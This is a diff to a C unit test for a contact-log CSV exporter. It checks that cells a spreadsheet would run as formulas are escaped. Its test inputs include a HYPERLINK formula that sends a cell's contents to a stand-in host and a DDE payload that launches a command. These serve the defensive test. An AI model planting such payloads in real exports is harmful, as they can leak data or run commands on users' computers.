@@ -306,6 +306,7 @@ test_case_note_and_csv_text (Fixture       *fixture,
 
   csv = sc_contacts_format_csv (both, label);
   g_assert_cmpstr (csv, ==,
+                   "\xEF\xBB\xBF"   /* so Excel reads the names as UTF-8 */
                    "Date,Time,Child,With,Channel,Direction,Device,Device details,Approved by,"
                    "Approved on,Summary,Follow-up\r\n"
                    "20/11/2026,15:30,\"Zoë Ängström, \"\"Zo\"\"\",\"Zoë Ängström, \"\"Zo\"\"\","
@@ -314,6 +315,32 @@ test_case_note_and_csv_text (Fixture       *fixture,
                    "21/11/2026,08:05,\"Zoë Ängström, \"\"Zo\"\"\","
                    "\"Their carer (for Zoë Ängström, \"\"Zo\"\")\",Phone call,From them,"
                    "Personal device or account,,,,Карер (carer) called back,Book a visit\r\n");
+
+  /* A cell a spreadsheet would run as a formula is made text. */
+  {
+    static const struct { const char *in, *out; } cells[] = {
+      { "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
+        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"" },
+      { "+44 7700 900123", "'+44 7700 900123" },
+      { "-2+3", "'-2+3" },
+      { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+      { "\tcmd", "'\tcmd" },
+      { "\rcmd", "\"'\rcmd\"" },
+      { "Rang = ok", "Rang = ok" },
+      { "", "" },
+    };
+
+    for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
+      {
+        g_autofree char *quoted = sc_csv_quote (cells[i].in);
+
+        g_assert_cmpstr (quoted, ==, cells[i].out);
+      }
+    sc_record_set_text (SC_RECORD (first), "summary", "=cmd|' /C calc'!A0");
+    g_clear_pointer (&csv, g_free);
+    csv = sc_contacts_format_csv (both, label);
+    g_assert_nonnull (strstr (csv, ",'=cmd|' /C calc'!A0,"));
+  }
 
   /* Formatting leaves the list's contacts alone (it once freed them). */
   g_assert_cmpstr (sc_record_get_text (both->pdata[0], "follow-up"), ==, "Book a visit");
